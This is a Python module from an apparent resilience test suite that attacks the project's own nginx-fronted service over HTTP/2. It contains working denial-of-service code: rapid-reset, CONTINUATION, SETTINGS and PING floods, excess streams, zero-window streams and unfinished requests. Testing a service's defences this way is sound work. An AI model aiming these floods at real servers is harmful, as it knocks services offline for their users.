"""Attacks by HTTP/2, for scripts/siege_attacks.py: what one connection can do that many can by HTTP/1.1.

They come by way of nginx, which passes TLS through; HAProxy would speak HTTP/2 itself. An attack judges by what it
sees, since other attacks move the same metrics: it counts "SURVIVED" when the service did nothing against it.
"""
import ssl
import struct
import time

from siege_field import PATIENCE_S, Refused

DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
INITIAL_WINDOW_SIZE = 4
CANCEL, REFUSED_STREAM = 8, 7

GET_HEALTH = b"\x82\x87\x04\x08/healthz\x01\x09localhost"
POST_QUERY = b"\x83\x87\x04\x0b/v1/queries\x01\x09localhost"
MARK = b"still up"

# The siege's limits are 5 s for a request and 8 s for a reply that is not taken.
SURVIVED_S = 60

TLS = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
TLS.check_hostname = False
TLS.verify_mode = ssl.CERT_NONE
TLS.set_alpn_protocols(["h2"])


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


class Connection:
    """A client of HTTP/2 that answers nothing it is sent. Its methods raise Refused when the connection has ended."""

    def __init__(self, field, source, settings=b""):
        self.socket = field.connect("nginx", source, tls=TLS)
        self.data = b""
        self.asked = {}  # stream: when
        self.next_stream = 1
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))

    def send(self, data):
        try:
            self.socket.sendall(data)
        except TimeoutError:
            raise
        except OSError as e:
            raise Refused("closed") from e

    def ask(self, head, count=1, flags=END_HEADERS | END_STREAM):
        """Open `count` streams."""
        streams = range(self.next_stream, self.next_stream + 2 * count, 2)
        self.next_stream += 2 * count
        self.asked.update((stream, time.monotonic()) for stream in streams)
        self.send(b"".join(frame(HEADERS, flags, stream, head) for stream in streams))

    def is_forgotten(self):
        """Whether a stream has been left alone for much longer than the limits."""
        return min(self.asked.values(), default=time.monotonic()) < time.monotonic() - SURVIVED_S

    def frames(self, seconds):
        """(kind, flags, stream, payload) of what comes within that time, as it comes; 0: what has come already."""
        end = time.monotonic() + seconds
        while True:
            while len(self.data) >= 9 and len(self.data) >= 9 + int.from_bytes(self.data[:3], "big"):
                size = 9 + int.from_bytes(self.data[:3], "big")
                whole, self.data = self.data[:size], self.data[size:]
                yield whole[3], whole[4], int.from_bytes(whole[5:9], "big"), whole[9:]
            self.socket.settimeout(max(0, end - time.monotonic()))
            try:
                piece = self.socket.recv(65536)
            except (TimeoutError, BlockingIOError, ssl.SSLWantReadError):
                return
            except OSError as e:
                raise Refused("closed") from e
            finally:
                self.socket.settimeout(PATIENCE_S)
            if not piece:
                raise Refused("closed")
            self.data += piece

    def close(self):
        self.socket.close()


# --- Floods -------------------------------------------------------------------------------------------

def floods():
    """By name; each is many times what a connection may send."""
    return {
        "resets": b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, GET_HEALTH) +
                           frame(RST_STREAM, 0, 2 * i + 1, struct.pack(">I", CANCEL)) for i in range(3000)),
        "continuations": frame(HEADERS, END_STREAM, 1, GET_HEALTH) + frame(CONTINUATION, 0, 1, b"\0\1x\1y") * 1000,
        "settings": frame(SETTINGS, 0, 0) * 20000,
        "pings": frame(PING, 0, 0, b"12345678") * 20000,
        "streams": b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, POST_QUERY) for i in range(200)),
    }


def is_answered(connection):
    """Whether a ping of ours is; "refused" if a stream was refused before. None: not in time."""
    connection.send(frame(PING, 0, 0, MARK))
    for kind, flags, _, payload in connection.frames(PATIENCE_S):
        if kind == RST_STREAM and payload == struct.pack(">I", REFUSED_STREAM):
            return "refused"
        if kind == PING and flags & ACK and payload == MARK:
            return True
    return None


def outcome(connection, flood):
    """"ended": with the connection. "refused": by streams. "SURVIVED": it goes on as if nothing had been.

    A ping that came with the flood may be answered by a connection that ends; one that is sent after that may not."""
    try:
        connection.send(flood)
        for _ in range(2):
            answer = is_answered(connection)
            if answer is not True:
                return answer or "no answer"
        return "SURVIVED"
    except TimeoutError:
        return "no answer"
    except Refused:
        return "ended"


def http2_floods(field, number):
    """Streams reset at once, heads without end, settings, pings, and more streams than there may be."""
    kinds = list(floods().items())
    turn = number
    while not field.is_over():
        name, flood = kinds[turn % len(kinds)]
        turn += 1
        try:
            connection = Connection(field, f"127.66.17.{number + 1}")
            field.count("http2_floods", f"{name} {outcome(connection, flood)}")
            connection.close()
        except (Refused, TimeoutError) as e:
            field.count("http2_floods", type(e).__name__)
        field.pause(0.3)


# --- Streams that stay --------------------------------------------------------------------------------

def hold(field, name, sources, round_s, begin, go_on, look):
    """Keep a connection per source, and go on with all of them each `round_s` seconds; `look` at frames that come."""
    held = {}
    while not field.is_over():
        began = time.monotonic()
        for key, source in enumerate(sources):
            try:
                if key not in held:
                    held[key] = begin(source)
                go_on(held[key])
                for what in held[key].frames(0):
                    look(held[key], *what)
                if not held[key].is_forgotten():
                    continue
                field.count(name, "SURVIVED")
            except (Refused, TimeoutError) as e:
                field.count(name, e if key in held else "not connected")
            if key in held:
                held.pop(key).close()
        field.pause(round_s - (time.monotonic() - began))
    for connection in held.values():
        connection.close()


def http2_never_reading(field, number):
    """A hundred replies to each connection, which opens no window to any of them."""
    def begin(source):
        connection = Connection(field, source, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
        connection.ask(GET_HEALTH, 100)
        return connection

    def look(connection, kind, flags, stream, payload):
        if kind == DATA and payload:
            field.count("http2_never_reading", "SENT")

    hold(field, "http2_never_reading", [f"127.66.18.{number + 1}"] * field.address_connections, 1, begin,
         lambda connection: None, look)


def http2_unfinished(field, number):
    """Requests without an end: before the time of one is over, the connection begins the next, and so is never idle."""
    def look(connection, kind, flags, stream, payload):
        if kind not in (HEADERS, RST_STREAM):
            return
        connection.asked.pop(stream, None)
        field.count("http2_unfinished", "reset" if kind == RST_STREAM else "408" if b"408" in payload else "another status")

    hold(field, "http2_unfinished",
         [f"127.66.19.{number * 4 + i + 1}" for i in range(4)] * field.address_connections, 4,
         lambda source: Connection(field, source), lambda connection: connection.ask(POST_QUERY, 1, END_HEADERS), look)
